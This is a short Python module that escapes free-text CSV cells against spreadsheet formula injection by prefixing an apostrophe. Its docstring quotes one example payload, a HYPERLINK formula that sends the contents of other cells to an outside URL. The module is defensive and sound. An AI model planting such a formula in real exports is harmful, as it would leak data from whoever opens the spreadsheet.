"""Text that a spreadsheet opens as text.

A CSV cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is
read by Excel, LibreOffice and Google Sheets as a formula: a staff comment such as
`=HYPERLINK("https://…?"&A1, "see more")` in a pulse export would run on the change team's
machine, with the rest of the sheet as its argument (OWASP, "CSV Injection"). Free text from
people (comments, team names from an HR file, delivery errors from a platform) goes through
`text` before it is written; figures we compute do not (a change of `-3` stays a number).
"""

from __future__ import annotations

_STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def text(value: str) -> str:
    """`value`, prefixed with an apostrophe if a spreadsheet would take it as a formula (the
    apostrophe is how a spreadsheet is told "this is text", and it does not show it)."""
    return "'" + value if value.startswith(_STARTS_A_FORMULA) else value
